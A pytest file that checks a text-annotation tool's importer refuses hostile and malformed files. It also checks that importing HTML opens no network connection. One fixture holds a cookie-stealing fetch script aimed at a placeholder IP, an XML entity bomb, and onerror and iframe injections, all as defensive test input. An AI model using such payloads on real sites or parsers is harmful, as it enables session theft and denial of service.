"""Nothing let in: hostile and broken files fail cleanly, name the file (and line), import nothing.

The files are written here at test time (the 100 MB line would not belong in the repository).
"""

from __future__ import annotations

import json
import socket
import time
from collections.abc import Callable
from pathlib import Path

import pytest
from sqlalchemy import func, select

from db.importing import import_paths
from db.models import Article, Link, Span
from db.project import Project

GOOD = {
    "text": "The ministry said the talks would resume.",
    "meta": {"title": "Talks"},
    "spans": [{"start": 0, "end": 17, "label": "ATTRIBUTION"}],
}
PNG = bytes.fromhex("89504e470d0a1a0a0000000d4948445200000001000000010806000000") + bytes(range(256))


def _counts(project: Project) -> tuple[int, int, int]:
    with project.read() as s:
        return tuple(s.scalar(select(func.count()).select_from(t)) or 0 for t in (Article, Span, Link))  # type: ignore[return-value]


def _jsonl(*records: object) -> bytes:
    return ("\n".join(r if isinstance(r, str) else json.dumps(r) for r in records) + "\n").encode()


def _span(**over: object) -> dict:
    return {**GOOD, "spans": [{"start": 0, "end": 17, "label": "ATTRIBUTION", **over}]}


HOSTILE: dict[str, tuple[str, Callable[[], bytes], int | None]] = {
    # name: (file name, content, the line the message must name, or None for whole-file errors)
    "binary as txt": ("photo.txt", lambda: PNG, None),
    "binary as jsonl": ("photo.jsonl", lambda: PNG, None),
    "invalid utf-8": ("latin1.txt", lambda: "Caf\xe9 au lait, said the minister.".encode("latin-1"), None),
    "utf-16 text": ("wide.txt", lambda: "The minister said so.".encode("utf-16"), None),
    "utf-16 jsonl": ("wide.jsonl", lambda: json.dumps(GOOD).encode("utf-16"), None),
    "empty txt": ("empty.txt", lambda: b"", None),
    "empty jsonl": ("empty.jsonl", lambda: b"", None),
    "deeply nested json": ("nested.jsonl", lambda: _jsonl(GOOD, "[" * 100_000 + "]" * 100_000), 2),
    "malformed json": ("broken.jsonl", lambda: _jsonl(GOOD, '{"text": "unterminated'), 2),
    "not an object": ("list.jsonl", lambda: _jsonl(GOOD, [1, 2, 3]), 2),
    "missing text": ("notext.jsonl", lambda: _jsonl(GOOD, {"meta": {}}), 2),
    "offset out of range": ("range.jsonl", lambda: _jsonl(GOOD, _span(end=10_000)), 2),
    "negative offset": ("neg.jsonl", lambda: _jsonl(_span(start=-3)), 1),
    "reversed offsets": ("rev.jsonl", lambda: _jsonl(GOOD, _span(start=17, end=4)), 2),
    "NaN offset": (
        "nan.jsonl",
        lambda: _jsonl(GOOD, '{"text": "a b c", "spans": [{"start": NaN, "end": 2, "label": "FACT"}]}'),
        2,
    ),
    "string offset": ("str.jsonl", lambda: _jsonl(_span(start="0")), 1),
    "float offset": ("float.jsonl", lambda: _jsonl(_span(end=17.5)), 1),
    "text mismatch": ("mismatch.jsonl", lambda: _jsonl(_span(text="something else")), 1),
    "duplicate span ids": (
        "dup.jsonl",
        lambda: _jsonl(
            {
                **GOOD,
                "spans": [
                    {"id": "s-1", "start": 0, "end": 3, "label": "FACT"},
                    {"id": "s-1", "start": 4, "end": 12, "label": "FACT"},
                ],
            }
        ),
        1,
    ),
    "label not a string": ("lab.jsonl", lambda: _jsonl(_span(label=7)), 1),
    "label studio not a list": ("ls.json", lambda: b'{"data": 1}', None),
}


@pytest.mark.parametrize("case", list(HOSTILE), ids=list(HOSTILE))
def test_hostile_file_is_refused_whole_with_file_and_line(
    project: Project, tmp_path: Path, case: str
) -> None:
    name, content, line = HOSTILE[case]
    bad = tmp_path / name
    bad.write_bytes(content())
    good = tmp_path / "good.jsonl"
    good.write_bytes(_jsonl({**GOOD, "text": GOOD["text"] + " Later."}))
    before = _counts(project)
    summary = import_paths(project, [bad])
    assert len(summary.errors) == 1, summary
    issue = summary.errors[0]
    assert issue.path.endswith(name)
    assert name in str(issue)
    if line is not None:
        assert issue.line == line, str(issue)
    assert _counts(project) == before, "a refused file left something behind"
    # The other files of the same import still go in.
    both = import_paths(project, [bad, good])
    assert [f.ok for f in both.files] == [False, True]
    assert _counts(project)[0] == before[0] + 1


def test_a_single_100_mb_line_is_refused_quickly_without_importing(project: Project, tmp_path: Path) -> None:
    huge = tmp_path / "huge.jsonl"
    with huge.open("wb") as fh:
        fh.write(b'{"text": "')
        chunk = b"x" * (1 << 20)
        for _ in range(100):
            fh.write(chunk)
        fh.write(b'"}\n')
    before = _counts(project)
    started = time.monotonic()
    summary = import_paths(project, [huge])
    assert summary.errors and summary.errors[0].line == 1
    assert time.monotonic() - started < 60
    assert _counts(project) == before


HTML_ATTACK = """<!DOCTYPE html [
  <!ENTITY a "ha ha ha ha ha ha ha ha ha ha">
  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
  <!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
  <!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
  <!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
  <!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
]>
<html><head><title>Strait talks resume</title>
<script>fetch("http://198.51.100.7/steal?c=" + document.cookie)</script>
<link rel="stylesheet" href="http://198.51.100.7/style.css"></head>
<body><article><h1>Strait talks resume</h1>
<img src="http://198.51.100.7/pixel.gif" onerror="alert(1)">
<iframe src="http://198.51.100.7/frame"></iframe>
<p>The ministry said on Thursday that talks over the strait would resume next week in Lunnemark.</p>
<p>Officials from both sides confirmed that 14 delegates would attend the two-day meeting. &f;</p>
<script>document.write("<p>INJECTED BY SCRIPT</p>")</script>
</article></body></html>"""


@pytest.mark.parametrize("with_entity_bomb", [True, False], ids=["entity-bomb", "scripts-only"])
def test_html_with_scripts_iframes_external_images_and_entity_bombs_opens_no_connection(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, with_entity_bomb: bool
) -> None:
    attempts: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise OSError("network access attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", refuse)
    page = tmp_path / "attack.html"
    html = HTML_ATTACK if with_entity_bomb else HTML_ATTACK[HTML_ATTACK.index("<html>") :].replace("&f;", "")
    page.write_text(html, encoding="utf-8")
    started = time.monotonic()
    summary = import_paths(project, [page])
    assert time.monotonic() - started < 30
    assert attempts == []
    if summary.errors:
        # Refusing a page that declares entities is fine; a page with scripts only must import.
        assert with_entity_bomb, str(summary.errors[0])
        assert _counts(project) == (0, 0, 0)
        assert "attack.html" in str(summary.errors[0])
        return
    with project.read() as s:
        text = s.scalar(select(Article.text))
    assert text is not None
    assert "talks over the strait would resume" in text
    assert "INJECTED" not in text and "fetch(" not in text and "alert(" not in text
    assert "ha ha ha ha ha ha ha ha ha ha" * 100 not in text  # the entity bomb did not expand


def test_nothing_in_a_session_of_work_opens_a_network_connection(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Import, export, suggestions and stats: all offline."""
    attempts: list[object] = []

    def refuse(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise OSError("network access attempted")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)
    from db.demo import demo_corpus_path
    from db.exporting import export
    from db.stats import project_stats
    from db.suggest import suggest_spans

    summary = import_paths(project, [demo_corpus_path()])
    assert not summary.errors and summary.articles_added == 5
    export(project, tmp_path / "out.jsonl")
    export(project, tmp_path / "out.spacy")
    suggest_spans("The minister said on Thursday that 3 ships were hit.")
    project_stats(project)
    assert attempts == []
